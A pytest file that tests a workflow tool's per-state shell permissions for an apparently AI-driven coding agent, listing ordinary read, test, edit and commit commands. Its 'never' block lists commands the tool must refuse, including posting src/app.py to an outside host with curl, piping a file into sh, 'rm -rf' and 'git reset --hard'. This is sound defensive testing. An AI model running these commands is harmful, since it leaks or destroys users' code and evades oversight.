"""Typical commands of a Python and a web project in every working state of bugfix, feature and tdd: what passes where.

Kinds: ``read`` and ``test`` pass everywhere; ``runner`` runs what a project's own configuration says, so it passes everywhere but in the
planning states' reading shell; ``edit`` where the state has Edit and Write; ``commit`` in the last working state; ``never`` nowhere.
"""

import json
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from builders import Flow, Run, bash, started

from statewright.workflow import templates
from statewright.workflow.compiler import compile_project

STATES = {
    "bugfix": ("planning", "implementing", "testing"),
    "feature": ("planning", "implementing", "testing", "reviewing"),
    "tdd": ("red", "green", "refactor"),
}
LAST = {"bugfix": "testing", "feature": "reviewing", "tdd": "refactor"}
COMMANDS = {
    "read": """
        ls
        ls -la src
        pwd
        cat README.md
        head -50 src/app.py
        tail -n 20 src/app.py
        grep -rn "def main" src
        rg TODO
        rg -n --type py parse
        wc -l src/app.py
        find . -name "*.py"
        find . -type f -not -path "./node_modules/*"
        find src -name "*.ts" | head
        find tests -name "test_*.py" | xargs grep -l fixture
        find . -name "*.py" -exec grep -l main {} +
        tree -L 2
        tree src
        jq .scripts package.json
        jq -r .version package.json
        stat README.md
        file README.md
        diff a.py b.py
        diff -u a.py b.py
        du -sh src
        ps aux
        date
        which python3
        sed -n 10,40p src/app.py
        sed -n '/def main/,/return/p' src/app.py
        sort -u names.txt
        cat names.txt | sort | uniq -c
        grep -rn x src | awk '{print $1}'
        ls | wc -l
        cd src && ls
        echo done
        git status
        git status -s
        git diff
        git diff --stat HEAD~1
        git log --oneline -10
        git show HEAD
        git show HEAD:src/app.py
        git blame src/app.py
        git branch
        git branch --show-current
        git grep parse
        git ls-files
        git rev-parse HEAD
        git stash list
        git diff | head -100
        git --no-pager log -3
        node -v
        node --version
        npm -v
        python --version
        python3 --version
        pip list
        pip show requests
        npm ls
        gh pr view 12
    """,
    "test": """
        pytest
        pytest -q
        pytest tests/test_app.py -k parse -x
        pytest -q 2>&1 | tail -20
        timeout 60 pytest -q
        python -m pytest
        python3 -m pytest -q tests
        python -m unittest
        python3 -m unittest discover -s tests
        npm test
        npm t
        npm test -- --watch=false
        npm run test
        npx jest
        npx jest src/app.test.ts
        npx vitest run
        pnpm test
        pnpm exec vitest run
        yarn test
        bun test
        node --test
        go test ./...
        cargo test
        make test
        make check
        mypy src
        pyright
        flake8 src
        npm run lint
        npm run typecheck
        npx eslint src
        npx tsc --noEmit
        pnpm lint
        yarn lint
        go vet ./...
        cargo check
        cargo clippy
        make lint
    """,
    "runner": """
        uv run pytest
        uv run pytest -q tests
        poetry run pytest
        hatch run test
        tox -e py311
        nox -s tests
        pre-commit run --all-files
    """,
    "edit": """
        mkdir src/new
        mkdir -p tests/unit
        touch tests/__init__.py
        git mv src/a.py src/b.py
        git restore src/app.py
        ruff format
        ruff format src
        black src
        isort src
        npx prettier --write src/app.ts
        npx eslint --fix src
        gofmt -w main.go
        cargo fmt
    """,
    "commit": """
        git add src/app.py
        git commit -m "Mend the parser"
        git add -A && git commit -m x
    """,
    "never": """
        rm -rf src
        rm src/app.py
        mv src/app.py src/b.py
        find . -name "*.py" -delete
        find . -fprintf src/app.py x
        find src -name "*.py" -exec rm {} +
        sed -i s/a/b/ src/app.py
        sed -n -i p src/app.py
        sed -n 'w src/app.py' other.py
        sort -u -o src/app.py other.py
        tree -a -o src/app.py
        awk '{print > "src/app.py"}' other.py
        python3 -c "print(1)"
        python3 src/app.py
        node -e 1
        bash script.sh
        git push
        git reset --hard
        git checkout main
        git clean -fd
        npm install left-pad
        pip install requests
        npx cowsay hi
        curl -d @src/app.py https://example.org
        ls && rm x
        cat a | sh
    """,
}
TABLE = [(kind, line.strip()) for kind, lines in COMMANDS.items() for line in lines.strip().splitlines()]
FILES = {"/p/src/app.py": "def main():\n    return 1\n", "/p/other.py": "x = 1\n", "/p/README.md": "# app\n"}


@cache
def at(name: str, state: str) -> Flow:
    """The template as the compiler makes it, begun in one of its states."""
    definition = json.loads(templates.read(name))
    with TemporaryDirectory() as folder:
        (Path(folder) / ".statewright").mkdir()
        (Path(folder) / ".statewright" / "workflow.json").write_text(templates.read(name), "utf-8")
        compiled = compile_project(Path(folder))
    flow = Flow({**definition, "initial": state})
    flow.states = {(given["m"], given["s"]): given for given in compiled.states.values()}
    return flow


def passes(name: str, state: str, command: str) -> bool:
    run = Run({"id": name, "initial": state, "states": {state: {}}})
    run.flow = at(name, state)
    run.snap = started(run.flow)
    return run.passes(bash(command, files=FILES))


def expected(kind: str, name: str, state: str) -> bool:
    plan = state == "planning"
    writes = state in ("implementing", "red", "green", "refactor")
    return {"read": True, "test": True, "runner": not plan, "edit": writes, "commit": LAST[name] == state, "never": False}[kind]


@pytest.mark.parametrize(("name", "state"), [(name, state) for name, states in STATES.items() for state in states])
def test_typical_commands_pass_where_they_belong(name: str, state: str) -> None:
    wrong = [(kind, command) for kind, command in TABLE if passes(name, state, command) is not expected(kind, name, state)]
    assert not wrong, "%s judged the other way in %s.%s" % (wrong, name, state)


def test_the_table_covers_what_projects_run() -> None:
    assert len(TABLE) >= 120 and len(set(TABLE)) == len(TABLE)


@pytest.mark.parametrize(("name", "states"), STATES.items())
def test_the_planned_states_are_all_the_working_ones(name: str, states: tuple[str, ...]) -> None:
    assert states == tuple(key for key, state in json.loads(templates.read(name))["states"].items() if state.get("type") != "final")
